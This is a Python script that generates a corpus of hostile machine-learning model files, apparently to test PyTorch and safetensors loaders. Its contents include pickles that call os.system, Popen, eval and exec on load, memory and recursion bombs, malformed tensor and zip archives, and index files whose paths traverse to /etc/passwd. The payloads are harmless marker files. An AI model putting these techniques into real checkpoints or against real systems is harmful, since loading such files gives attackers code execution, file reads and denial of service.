"""Files that want to harm whoever reads them, made by a fixed recipe."""
import io
import pickle
import struct
import sys
import zipfile
from pathlib import Path


class Call:
    """Pickles as a call of that function when it is loaded."""

    def __init__(self, function, *args):
        self.call = (function, args)

    def __reduce__(self):
        return self.call


def torch_zip(data_pkl, storages=(), name="archive", method=zipfile.ZIP_STORED):
    """What torch.save would write around a pickle."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(f"{name}/data.pkl", data_pkl)
        archive.writestr(f"{name}/byteorder", "little")
        for key, data in storages:
            archive.writestr(f"{name}/data/{key}", data)
        archive.writestr(f"{name}/version", "3\n")
    return out.getvalue()


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def number(value):
    return b"\x8a\x08" + struct.pack("<q", value)


def tensor(key, shape, strides, numel, offset=0, kind="FloatStorage"):
    """The instructions that build a tensor over a storage."""
    def sizes(values):
        return b"(" + b"".join(number(v) for v in values) + b"t"
    storage = b"(" + text("storage") + f"ctorch\n{kind}\n".encode() + text(key) + text("cpu") + number(numel) + b"tQ"
    return (b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + number(offset) + sizes(shape) + sizes(strides)
            + b"\x89ccollections\nOrderedDict\n)RtR")


def state(*items):
    """A pickle of a dictionary."""
    return b"\x80\x02}(" + b"".join(text(name) + value for name, value in items) + b"u."


def safetensors(header, data=b""):
    return struct.pack("<Q", len(header)) + header + data


def calls():
    """Pickles that call something when they are loaded."""
    import builtins
    import os
    import subprocess
    import webbrowser
    yield "os_system", pickle.dumps({"w": Call(os.system, "touch PWNED_system")}, 2)
    yield "popen", pickle.dumps({"w": Call(subprocess.Popen, ["touch", "PWNED_popen"])}, 2)
    yield "eval", pickle.dumps({"w": Call(builtins.eval, "open('PWNED_eval','w')")}, 4)
    yield "exec", pickle.dumps({"w": Call(builtins.exec, "open('PWNED_exec','w')")}, 5)
    yield "open", pickle.dumps({"w": Call(builtins.open, "PWNED_open", "w")}, 2)
    yield "browser", pickle.dumps({"w": Call(webbrowser.open, "http://127.0.0.1:9/")}, 2)
    yield "getattr", b"\x80\x02cbuiltins\ngetattr\n(cos\nsystem\n" + text("__call__") + b"tR."
    yield "import", b"\x80\x02cbuiltins\n__import__\n" + text("os") + b"\x85R."
    yield "load", b"\x80\x02ctorch\nload\n" + text("/etc/passwd") + b"\x85R."
    yield "from_bytes", b"\x80\x02ctorch.storage\n_load_from_bytes\nC\x04abcd\x85R."
    yield "inst", b"(S'touch PWNED_inst'\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\nS'touch PWNED_obj'\no."
    yield "extension", b"\x80\x02\x82\x01)R."
    yield "build_on_class", b"\x80\x02ctorch\nSize\n}" + text("__reduce__") + b"cos\nsystem\nsb."
    yield "codec", b"\x80\x02c_codecs\ndecode\n" + text("x") + text("rot13") + b"\x86R."


def bombs():
    """Pickles that ask for time or memory."""
    yield "deep", b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."
    yield "deep_tuples", b"\x80\x02)" + b"\x85" * 900_000 + b"."
    yield "doubling", b"\x80\x02]" + b"".join(b"q%c" % n + b"](h%ch%ce" % (n, n) for n in range(120)) + b"."
    yield "contains_itself", b"\x80\x02}q\x00" + text("model") + b"h\x00s."
    yield "memo", b"\x80\x02N" + b"r\xff\xff\xff\x7f" + b"."
    yield "marks", b"\x80\x02" + b"(" * 3_000_000 + b"."
    yield "nones", b"\x80\x02" + b"N" * 5_000_000 + b"."
    yield "lists", b"\x80\x02" + b"]" * 3_000_000 + b"."
    yield "long_text", b"\x80\x02X" + struct.pack("<I", 0xFFFFFFF0) + b"a"
    yield "much_text", b"\x80\x02" + (b"X" + struct.pack("<I", 1 << 16) + b"a" * (1 << 16)) * 400 + b"."
    yield "protocol", b"\x80\x63N."


def tensors():
    """Tensors that are not there."""
    data = [("0", b"\0" * 64)]
    yield "no_strides", torch_zip(state(("w", tensor("0", (1 << 20, 1 << 20), (0, 0), 16))), data)
    yield "beyond", torch_zip(state(("w", tensor("0", (64, 64), (64, 1), 16))), data)
    yield "numel_lies", torch_zip(state(("w", tensor("0", (4, 4), (4, 1), 1 << 40))), data)
    yield "offset", torch_zip(state(("w", tensor("0", (2, 2), (2, 1), 16, offset=1 << 62))), data)
    yield "negative", torch_zip(state(("w", tensor("0", (-4, 4), (4, 1), 16))), data)
    yield "no_storage", torch_zip(state(("w", tensor("7", (4, 4), (4, 1), 16))), data)
    yield "huge_dims", torch_zip(state(("w", tensor("0", (1 << 62, 1 << 62), (1, 1), 16))), data)
    yield "deflated", torch_zip(state(("w", tensor("0", (4, 4), (4, 1), 16))), data, method=zipfile.ZIP_DEFLATED)
    yield "huge_name", torch_zip(state(("w" * 60_000, tensor("0", (4, 4), (4, 1), 16))), data)
    yield "many_tensors", torch_zip(state(*((f"w{i}", tensor("0", (4, 4), (4, 1), 16)) for i in range(20_000))), data)


def zips():
    whole = torch_zip(state(("w", tensor("0", (4, 4), (4, 1), 16))), [("0", b"\0" * 64)])
    yield "trailing", whole + b"x" * 100
    yield "cut", whole[:-30]
    yield "end_only", b"PK\x03\x04" + b"PK\x05\x06" + b"\0" * 18
    yield "many_entries", b"PK\x03\x04" + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 65535, 65535, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    yield "directory_outside", b"PK\x03\x04" + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, 46, 0x7FFFFFFF, 0)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for n in range(60_000):
            archive.writestr(f"a/data/{n}", b"")
        archive.writestr("a/data.pkl", b"\x80\x02}.")
    yield "sixty_thousand", out.getvalue()


def headers():
    yield "length", struct.pack("<Q", (1 << 63) - 1) + b"{}"
    yield "large_header", safetensors(b'{"' + b"a" * (15 << 20) + b'":1}')
    entry = b'"t%d":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}'
    yield "overlapping", safetensors(b"{" + b",".join(entry % n for n in range(200_000)) + b"}", b"\0" * 4)
    yield "deep_json", safetensors(b'{"a":' * 100_000 + b"1" + b"}" * 100_000)
    yield "rank", safetensors(b'{"w":{"dtype":"F32","shape":[' + b",".join([b"1"] * 100_000) + b'],"data_offsets":[0,4]}}', b"\0" * 4)


def files():
    """(name, bytes) of every file."""
    for name, data in calls():
        yield f"call_{name}.pt", torch_zip(data)
        yield f"call_{name}_plain.bin", data
    for name, data in bombs():
        yield f"bomb_{name}.pt", torch_zip(data)
    for name, data in tensors():
        yield f"tensor_{name}.pth", data
    for name, data in zips():
        yield f"zip_{name}.ckpt", data
    for name, data in headers():
        yield f"header_{name}.safetensors", data
    yield "index/model.safetensors.index.json", b'{"weight_map":{"w":"../../../../etc/passwd"}}'
    yield "index_bin/pytorch_model.bin.index.json", b'{"weight_map":{"w":"/etc/passwd"}}'
    yield "escape/.metadata", distributed("../../../../../etc/passwd")
    yield "escape/__0_0.distcp", b"x"
    yield "latest/latest", b"../../../../etc"


def distributed(path, name="w", box=None, length=64):
    """The record of a distributed state whose one piece lies in that file; `box` is its corner and its size."""
    module = b"ctorch.distributed.checkpoint.metadata\n"

    def made(name, fields, module=module):
        return module + name + b"\n)\x81}(" + b"".join(text(key) + value for key, value in fields) + b"ub"
    zeros, sizes = box or (b"(" + number(0) + number(0) + b"t", b"(" + number(4) + number(4) + b"t")
    properties = module + b"TensorProperties\n)\x81(ctorch\nfloat32\nNNNNtb"
    chunk = made(b"ChunkStorageMetadata", [("offsets", zeros), ("sizes", sizes)])
    entry = made(b"TensorStorageMetadata", [("properties", properties), ("size", sizes), ("chunks", b"](" + chunk + b"e")])
    index = made(b"MetadataIndex", [("fqn", text(name)), ("offset", zeros), ("index", number(0))])
    info = made(b"_StorageInfo", [("relative_path", text(path)), ("offset", number(0)), ("length", number(length))],
                b"ctorch.distributed.checkpoint.filesystem\n")
    return b"\x80\x02" + made(b"Metadata", [("state_dict_metadata", b"}(" + text(name) + entry + b"u"),
                                             ("storage_data", b"}(" + index + info + b"u")]) + b"."


def write(made, root):
    """Writes the files, and their names to the standard output."""
    for name, data in made:
        path = Path(root) / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        print(name)


if __name__ == "__main__":
    write(files(), sys.argv[1])
